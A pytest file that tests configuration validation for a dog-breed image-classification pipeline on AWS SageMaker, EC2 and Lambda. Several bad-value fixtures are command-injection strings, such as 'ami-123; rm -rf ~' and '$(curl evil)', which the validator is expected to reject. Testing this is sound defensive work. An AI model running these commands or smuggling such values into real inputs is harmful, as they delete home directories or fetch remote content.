"""Pipeline parameters: each profile is valid, and each bad value fails naming its parameter."""

import pytest

from dog_breed.config import ConfigError, PipelineConfig, param_specs
from dog_breed import validation
from dog_breed.environment import DeploymentSettings, profile_defaults
from dog_breed.profiles import AWS_DEFAULTS
from dog_breed.layout import DataLayout


def local(**changes):
    return {**profile_defaults("local"), **changes}


def test_local_profile_is_valid():
    config = PipelineConfig.from_mapping(profile_defaults("local"))
    assert DataLayout.for_run(config, "0123abcd").root_uri == "s3://dog-breed-local/dog-breed"
    assert config.dataset_url.startswith("file://")


def test_aws_profile_needs_a_bucket_and_a_role():
    with pytest.raises(ConfigError) as caught:
        PipelineConfig.from_mapping(profile_defaults("aws"))
    assert [p.split(":")[0] for p in caught.value.problems] == ["bucket", "sagemaker_role_arn"]
    config = PipelineConfig.from_mapping({**AWS_DEFAULTS, "bucket": "my-ml-bucket",
                                          "sagemaker_role_arn": "arn:aws:iam::111122223333:role/sm"})
    assert config.dataset_url == "https://s3-us-west-1.amazonaws.com/udacity-aind/dog-project/dogImages.zip"


@pytest.mark.parametrize("name, value, message", [
    ("training_instance_type", "m5.xlarge", "is not a SageMaker instance type"),
    ("tuning_instance_type", "ml.M5.xlarge", "is not a SageMaker instance type"),
    ("endpoint_instance_type", "t2.micro", "is not a SageMaker instance type"),
    ("training_instance_count", 0, "must be >= 1"),
    ("endpoint_instance_count", -1, "must be >= 1"),
    ("tuning_max_jobs", 0, "must be >= 1"),
    ("tuning_max_parallel_jobs", 5, "exceeds tuning_max_jobs"),
    ("learning_rate_max", 0.0001, "must be greater than learning_rate_min"),
    ("learning_rate_min", 0.0, "must be > 0 for a log-scale search"),
    ("epochs_max", 1, "must be greater than epochs_min"),
    ("batch_sizes", [], "must be distinct integers >= 1"),
    ("batch_sizes", [16, 16], "must be distinct integers >= 1"),
    ("accuracy_threshold", 1.5, "must be in [0, 1]"),
    ("accuracy_threshold", -0.1, "must be in [0, 1]"),
    ("max_accuracy_drop", 2.0, "must be in [0, 1]"),
    ("dataset_url", "ftp://example.com/dogImages.zip", "must use one of the schemes https, s3, file"),
    ("dataset_url", "s3:///dogImages.zip", "has no host or bucket"),
    ("dataset_url", "https://example.com/", "has no path to a zip file"),
    ("dataset_version", "v1/../x", "must be 1-63 letters"),
    ("bucket", "My_Bucket", "must be 3-63 lowercase letters"),
    ("bucket", "192.168.1.1", "must not look like an IP address"),
    ("bucket", "a..b", "must not contain '..'"),
    ("bucket", "xn--bucket", "uses a prefix or suffix S3 reserves"),
    ("project", "dog-breed-project-x", "must be 1-16 letters"),
    ("project", "-dog", "must be 1-16 letters"),
    ("endpoint_name", "x" * 64, "must be 1-63 letters"),
    ("endpoint_name", "dog_breed", "must be 1-63 letters"),
    ("model_package_group", "a--", "must be 1-63 letters"),
    ("region", "us-mars-1", "is not a region with PyTorch Deep Learning Containers"),
    ("region", "mars-north-1", "is not an AWS region name like us-east-1"),
    ("sagemaker_role_arn", "SageMakerRole", "is not an IAM role ARN"),
    ("s3_prefix", "/dog-breed/", "must be non-empty key segments"),
    ("tuning_strategy", "Grid", "is not one of Bayesian, Random, Hyperband"),
    ("extra_hyperparameters", {"sagemaker_program": "x.py"}, "must be a snake_case train.py argument"),
    ("extra_hyperparameters", {"epochs": "3"}, "is tuned: set its range instead"),
    ("deployment_bake_seconds", 7200, "must be in [0, 3600]"),
    ("smoke_test_images", 0, "must be >= 1"),
    ("training_instance_count", "3", "expected integer"),
    ("use_spot_instances", "yes", "expected boolean"),
    ("extra_hyperparameters", {"arch": 18}, "expected mapping of strings to strings"),
    ("extra_hyperparameters", {"arch": "resnet18\nrm -rf ~"}, "must be one line of printable ASCII characters"),
    ("training_backend", "laptop", "is not one of sagemaker, ec2"),
    ("ec2_image", "ami-123; rm -rf ~", "must be an AMI id (ami-...) or the name of an SSM parameter"),
    ("ec2_image", "$(curl evil)", "must be an AMI id"),
    ("ec2_instance_type", "ml.m5.xlarge", "is not an EC2 instance type like t2.xlarge"),
    ("ec2_volume_gb", 4, "must be in [8, 16384]"),
    ("ec2_interpreter", "python3\nrm -rf ~", "must be one non-empty line"),
    ("ec2_interpreter", "", "must be one non-empty line"),
    ("ec2_learning_rate", 0.0, "must be > 0"),
    ("ec2_batch_size", 0, "must be > 0"),
    ("ec2_epochs", -1, "must be > 0"),
    ("max_runtime_seconds", 200_000, "must be in [1, 172800]"),
    ("autoscaling_min_capacity", 0, "must be >= 1"),
    ("autoscaling_max_capacity", 0, "must be >= 1"),
    ("autoscaling_target_value", 0.0, "must be > 0"),
    ("autoscaling_scale_in_cooldown", -1, "must be >= 0"),
    ("autoscaling_scale_out_cooldown", -5, "must be >= 0"),
    ("lambda_function_name", "front door; rm", "must be 1 to 64 letters, digits, '-' or '_'"),
    ("lambda_memory_mb", 64, "must be in [128, 10240]"),
    ("lambda_timeout_seconds", 901, "must be in [1, 900]"),
    ("lambda_reserved_concurrency", 0, "must be >= 1"),
    ("lambda_provisioned_concurrency", 4, "must be from 0 to reserved_concurrency"),
    ("lambda_function_url_auth", "OPEN", "'OPEN' is not one of off, AWS_IAM, NONE"),
])
def test_each_bad_value_is_named(name, value, message):
    with pytest.raises(ConfigError) as caught:
        PipelineConfig.from_mapping(local(**{name: value}))
    assert any(p.startswith(f"{name}: ") and message in p for p in caught.value.problems), caught.value.problems
    assert sum(p.startswith(f"{name}: ") for p in caught.value.problems) == 1, caught.value.problems  # said once
    assert name in str(caught.value)


def test_spot_training_needs_a_wait_at_least_the_runtime():
    with pytest.raises(ConfigError, match="max_wait_seconds: must be >= max_runtime_seconds"):
        PipelineConfig.from_mapping(local(use_spot_instances=True, max_wait_seconds=10))
    PipelineConfig.from_mapping(local(use_spot_instances=False, max_wait_seconds=10))


def test_all_problems_are_reported_at_once():
    with pytest.raises(ConfigError) as caught:
        PipelineConfig.from_mapping(local(training_instance_count=0, accuracy_threshold=3.0, bucket="B"))
    assert {p.split(":")[0] for p in caught.value.problems} == {"training_instance_count", "accuracy_threshold",
                                                                "bucket"}


def test_unknown_and_missing_parameters_are_named():
    values = local(instance_typ="ml.m5.large")
    del values["bucket"]
    with pytest.raises(ConfigError) as caught:
        PipelineConfig.from_mapping(values)
    assert caught.value.problems == ["instance_typ: unknown parameter", "bucket: missing"]


def test_unknown_profile_is_refused():
    with pytest.raises(ConfigError, match="DOG_BREED_PROFILE: 'staging' is not one of aws, local"):
        profile_defaults("staging")


def test_bucket_rules_accept_ordinary_names():
    for name in ("abc", "my-bucket.data", "a" * 63, "01.2.3.4"):
        assert validation.DOMAINS["bucket"].problem(name) is None


def test_every_field_becomes_a_described_param():
    specs = param_specs(profile_defaults("local"))
    assert set(specs) == set(PipelineConfig.__dataclass_fields__)
    assert all(spec["description"] and spec["type"] for spec in specs.values())
    assert specs["tuning_strategy"]["enum"] == ["Bayesian", "Random", "Hyperband"]


def test_a_deployment_changes_single_defaults_through_the_environment(monkeypatch):
    monkeypatch.setenv("DOG_BREED_DEFAULTS", '{"bucket": "my-ml-bucket", '
                       '"sagemaker_role_arn": "arn:aws:iam::111122223333:role/sm", "tuning_max_jobs": 8}')
    defaults = profile_defaults("aws")
    assert (defaults["bucket"], defaults["tuning_max_jobs"], defaults["tuning_strategy"]) == ("my-ml-bucket", 8,
                                                                                             "Bayesian")
    PipelineConfig.from_mapping(defaults)


@pytest.mark.parametrize("raw, message", [
    ("{bucket: x}", "DOG_BREED_DEFAULTS: not valid JSON"),
    ('["bucket"]', "DOG_BREED_DEFAULTS: must be a JSON object"),
    ('{"buckett": "x"}', "DOG_BREED_DEFAULTS: unknown parameters ['buckett']"),
])
def test_bad_default_overrides_are_named(monkeypatch, raw, message):
    monkeypatch.setenv("DOG_BREED_DEFAULTS", raw)
    with pytest.raises(ConfigError) as caught:
        profile_defaults("aws")
    assert message in str(caught.value)


def test_a_deployment_is_read_from_its_environment_at_one_moment():
    deployment = DeploymentSettings.from_environment({
        "DOG_BREED_PROFILE": "local", "DOG_BREED_SCHEDULE": "none",
        "DOG_BREED_LOCAL_DATASET_URL": "file:///data/dogImages.zip", "DOG_BREED_DEFAULTS": '{"tuning_max_jobs": 3}'})
    assert (deployment.profile, deployment.schedule) == ("local", None)
    local_defaults = deployment.defaults()
    assert (local_defaults["dataset_url"], local_defaults["tuning_max_jobs"]) == ("file:///data/dogImages.zip", 3)
    assert deployment.defaults("aws")["dataset_url"].startswith("https://"), "the local dataset is the local profile's"
    assert DeploymentSettings.from_environment({}) == DeploymentSettings(profile="aws", schedule="@weekly")
    with pytest.raises(ConfigError, match="DOG_BREED_PROFILE: 'prod' is not one of aws, local"):
        DeploymentSettings.from_environment({"DOG_BREED_PROFILE": "prod"})


@pytest.mark.parametrize("schema, good, bad, expected", [
    ({"type": "array", "items": {"type": "integer"}}, [1, 2], [1, True], "expected list of integers"),
    ({"type": "object", "additionalProperties": {"type": "string"}}, {"a": "b"}, {"a": 1},
     "expected mapping of strings to strings"),
    ({"type": "number"}, 0.5, True, "expected number"),
])
def test_types_are_checked_as_each_parameters_schema_says(schema, good, bad, expected):
    assert validation.type_problem(good, schema) is None
    assert validation.type_problem(bad, schema).startswith(expected)
